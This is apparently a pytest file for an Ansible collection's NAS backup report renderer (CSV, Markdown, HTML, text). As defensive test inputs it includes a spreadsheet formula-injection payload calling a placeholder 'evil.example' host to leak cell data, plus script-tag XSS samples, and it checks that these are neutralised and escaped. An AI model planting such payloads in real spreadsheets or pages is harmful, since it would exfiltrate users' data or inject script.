# -*- coding: utf-8 -*-
# Copyright (c) 2026, backupgate.veeam_em contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import csv
import io
import os
import re
from html.parser import HTMLParser

import pytest

from ansible_collections.backupgate.veeam_em.plugins.module_utils._errors import EmOptionError
from ansible_collections.backupgate.veeam_em.plugins.plugin_utils import _report_html
from ansible_collections.backupgate.veeam_em.plugins.plugin_utils._report_html import render_html
from ansible_collections.backupgate.veeam_em.plugins.plugin_utils._report_render import render
from ansible_collections.backupgate.veeam_em.plugins.plugin_utils._report_text import (
    format_duration, format_hours, format_time,
)

ODD = 'Q1 "Finance"; Share, <b>|x|</b> & ü'
# The role's own template, as the role renders it.
TEMPLATE = os.path.join(os.path.dirname(_report_html.__file__), "..", "..", "roles", "nas_backup_report",
                        "templates", "nas_backup_report.html.j2")


def html(report):
    return render_html(report, TEMPLATE)


def job(name, **values):
    entry = dict(job_name=name, last_result=None, status="none", last_session_time=None, last_success_time=None,
                 last_success_age_hours=None, success_rate=None, session_count=0, running=False,
                 mean_duration_seconds=None, last_duration_seconds=None)
    entry.update(values)
    return entry


def session(name, created, ended, result, state="Stopped", message=None):
    return dict(job_name=name, creation_time=created, end_time=ended, state=state, result=result,
                duration_seconds=1800.0 if ended else None, failure_message=message)


REPORT = dict(
    generated_at="2026-11-22T21:00:00Z",
    window="7d",
    window_start="2026-11-15T21:00:00Z",
    max_age="24h",
    accept_results=["Success"],
    jobs=[
        job("Archived Projects", last_result="Failed", status="failed", last_session_time="2026-11-22T18:00:00Z",
            last_success_time="2026-11-21T18:00:00Z", last_success_age_hours=27.0, success_rate=50.0,
            session_count=2, running=True, mean_duration_seconds=1800.0, last_duration_seconds=1800.0),
        job(ODD, last_result="Success", status="success", last_session_time="2026-11-22T19:00:00Z",
            last_success_time="2026-11-22T19:00:00Z", last_success_age_hours=2.0, success_rate=100.0,
            session_count=1, mean_duration_seconds=1800.0, last_duration_seconds=1800.0),
        job("Ghost", status="unknown"),
        job("Only Running", status="running", running=True),
        job("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", last_result="Success", status="stale"),
    ],
    hosts=[
        dict(host="fs01", passed=True, jobs=[dict(job_name=ODD, passed=True, reason="fine")]),
        dict(host="fs02", passed=False, jobs=[dict(job_name="Archived Projects", passed=False, reason="it failed")]),
        dict(host="fs03", passed=False, jobs=[]),
    ],
    unknown_jobs=["Ghost"],
    sessions=[
        session("Archived Projects", "2026-11-22T20:50:00Z", None, "None", state="Working"),
        session("Archived Projects", "2026-11-22T18:00:00Z", "2026-11-22T18:30:00Z", "Failed",
                message="The network path was not found."),
        session("Archived Projects", "2026-11-21T18:00:00Z", "2026-11-21T18:30:00Z", "Success"),
        session(ODD, "2026-11-22T19:00:00Z", "2026-11-22T19:30:00Z", "Success"),
        session("Only Running", "2026-11-22T20:00:00Z", None, "None", state="Working"),
    ],
)


def test_csv_has_one_row_per_job_with_the_job_keys():
    rows = list(csv.DictReader(io.StringIO(render(REPORT, "csv"))))
    assert len(rows) == 5
    assert list(rows[0]) == list(REPORT["jobs"][0])
    assert rows[0]["running"] == "true"
    assert rows[0]["last_success_age_hours"] == "27.0"
    assert rows[1]["job_name"] == ODD                      # quotes, commas and semicolons survive
    assert rows[2]["last_result"] == "" and rows[2]["session_count"] == "0"
    assert (rows[0]["last_result"], rows[0]["status"]) == ("Failed", "failed")


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_a_cell_a_spreadsheet_would_run_as_a_formula(lead):
    name = lead + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    report = dict(REPORT, jobs=[job(name, last_result="Success", status="success")])
    text = render(report, "csv")
    # OWASP: a leading single quote, and the cell enclosed in double quotes (inner quotes doubled).
    assert '"\'%s"' % name.replace('"', '""') in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["job_name"] == "'" + name
    assert rows[0]["last_result"] == "Success"          # other cells are left as they are


def test_csv_keeps_ordinary_text_and_numbers_as_they_are():
    rows = list(csv.DictReader(io.StringIO(render(REPORT, "csv"))))
    assert rows[1]["job_name"] == ODD
    assert rows[0]["success_rate"] == "50.0"


def _md_rows(text):
    rows = {}
    for line in text.splitlines():
        if line.startswith("| ") and not line.startswith("| ---"):
            cells = [c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]]
            rows[cells[0]] = cells
    return rows


def test_markdown_has_a_row_per_job_with_escaped_names():
    text = render(REPORT, "markdown")
    rows = _md_rows(text)
    assert rows["Archived Projects"][1:] == [
        "Failed", "Failed, running now", "2026-11-22 18:00 UTC", "2026-11-21 18:00 UTC", "1d 3h", "50.0%", "2",
        "30m 00s", "30m 00s"]
    escaped = r'Q1 "Finance"; Share, \<b\>\|x\|\</b\> & ü'
    assert rows[escaped][1:3] == ["Success", "Success"]
    assert rows["Ghost"][1:3] == [u"\u2014", "No session ever"]
    assert rows["Only Running"][1:3] == [u"\u2014", "Running"]
    assert [c for c in rows.values() if c[2] == "Stale"][0][1] == "Success"   # the result stays readable
    assert "### fs02: FAILED" in text
    assert "- FAILED **Archived Projects**: it failed" in text
    assert "No job is listed in `veeam_nas_jobs`." in text
    assert ("No session at all was found for: Ghost. Enterprise Manager has no such file share backup job, "
            "or it has never run.") in text


class _Page(HTMLParser):
    """Job rows, host sections, and whatever would make the page not self-contained."""

    def __init__(self):
        HTMLParser.__init__(self)
        self.rows = {}
        self.hosts = {}
        self.lanes = []
        self.tags = set()
        self.links = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.add(tag)
        for name in ("src", "href"):
            if name in attrs:
                self.links.append(attrs[name])
        if tag == "tr" and "data-job" in attrs:
            self.rows[attrs["data-job"]] = attrs["data-status"]
        if tag == "section" and "data-host" in attrs:
            self.hosts[attrs["data-host"]] = attrs["data-passed"]
        if tag == "div" and attrs.get("class") == "lane":
            self.lanes.append(attrs["data-job"])


def test_html_has_a_row_and_a_status_per_job_and_a_section_per_host():
    page = _Page()
    page.feed(html(REPORT))
    names = [j["job_name"] for j in REPORT["jobs"]]
    assert page.rows == dict((j["job_name"], j["status"]) for j in REPORT["jobs"])
    assert page.lanes == names
    assert page.hosts == {"fs01": "true", "fs02": "false", "fs03": "false"}


def test_html_is_self_contained_and_escaped():
    text = html(REPORT)
    page = _Page()
    page.feed(text)
    assert not page.tags & {"script", "img", "link", "iframe", "object", "embed"}
    assert page.links == []
    assert "url(" not in text and "@import" not in text
    assert "<b>|x|</b>" not in text                        # the job name is text, not markup
    assert "&lt;b&gt;|x|&lt;/b&gt;" in text
    assert "default-src 'none'" in text


def test_html_template_autoescapes_a_script_in_a_job_name():
    name = "<script>alert(1)</script>"
    verdict = dict(job_name=name, passed=False, reason="<script>r</script>")
    report = dict(REPORT, jobs=[job(name, status="failed", last_result="Failed")], unknown_jobs=[name],
                  hosts=[dict(host="<script>h</script>", passed=False, jobs=[verdict])],
                  sessions=[session(name, "2026-11-22T18:00:00Z", "2026-11-22T18:30:00Z", "Failed",
                                    message="<script>m</script>")])
    text = html(report)
    page = _Page()
    page.feed(text)
    assert "<script" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&lt;script&gt;m&lt;/script&gt;" in text and "&lt;script&gt;h&lt;/script&gt;" in text
    assert page.rows == {name: "failed"}                 # the attribute holds the name, unbroken


def test_html_shows_the_last_result_next_to_the_status():
    text = html(REPORT)
    assert '<th scope="col">Last result</th><th scope="col">Status</th>' in text
    stale = text[text.index('data-status="stale"'):]
    stale = stale[:stale.index("</tr>")]
    assert "Success</span></td>" in stale and "Stale</span>" in stale


def test_html_template_errors_name_the_variable(tmp_path):
    broken = tmp_path / "page.html.j2"
    broken.write_text(u"{{ view.no_such_key }}")
    with pytest.raises(EmOptionError) as caught:
        render_html(REPORT, str(broken))
    assert caught.value.msg.startswith("Option nas_backup_report_html_template got '%s': the template failed" % broken)
    with pytest.raises(EmOptionError) as caught:
        render_html(REPORT, str(tmp_path / "missing.j2"))
    assert "expected the path of a Jinja template file" in caught.value.msg


def test_a_template_of_your_own_gets_the_view_model(tmp_path):
    mine = tmp_path / "mine.html.j2"
    mine.write_text(u"{% for j in view.jobs %}{{ j.name }}={{ j.status }};{% endfor %}{{ report.window }}")
    assert render_html(REPORT, str(mine)).startswith("Archived Projects=failed;Q1 &#34;Finance&#34;")


def test_html_draws_each_session_with_its_status_in_words():
    text = html(REPORT)
    assert text.count('<rect class="bar ') == len(REPORT["sessions"])
    assert "<title>Failed, 2026-11-22 18:00 UTC, 30m 00s</title>" in text
    assert "<title>Running, 2026-11-22 20:50 UTC, running</title>" in text
    assert 'aria-label="Archived Projects: 1 Success, 1 Failed, 1 running"' in text
    assert "The network path was not found." in text


def test_text_lines_for_the_play_output():
    lines = render(REPORT, "text").splitlines()
    assert lines[0] == "NAS backup report 2026-11-22T21:00:00Z, window 7d: 5 job(s), 3 host(s)"
    assert lines[1] == ("Archived Projects: last result Failed, status Failed, running now, last success 1d 3h ago, "
                        "50.0% of 2 finished session(s) succeeded")
    assert lines[3] == "Ghost: last result none, status No session ever, last success never, no finished session in the window"
    assert lines[-2:] == ["host fs02: FAILED (Archived Projects)", "host fs03: FAILED (no job listed)"]


def test_an_empty_report_renders_in_every_format():
    empty = dict(REPORT, jobs=[], hosts=[], unknown_jobs=[], sessions=[])
    for fmt in ("markdown", "csv", "text"):
        assert render(empty, fmt)
    assert "No file share backup job had a session in the window" in html(empty)
    assert render(empty, "csv").splitlines() == [",".join('"%s"' % key for key in REPORT["jobs"][0])]


def test_unknown_format_names_the_variable():
    with pytest.raises(EmOptionError) as caught:
        render(REPORT, "pdf")
    assert caught.value.msg.startswith("Option nas_backup_report_formats got 'pdf': expected one of")


@pytest.mark.parametrize("seconds, text", [(None, u"\u2014"), (44.6, "45s"), (1685, "28m 05s"), (3900, "1h 05m")])
def test_format_duration(seconds, text):
    assert format_duration(seconds) == text


def test_format_hours_and_time():
    assert format_hours(None) == "never"
    assert format_hours(47.94) == "1d 23h"
    assert format_hours(72, suffix=" ago") == "3d ago"
    assert format_time("2026-11-22T19:00:05Z") == "2026-11-22 19:00 UTC"
    assert format_time(None) == u"\u2014"
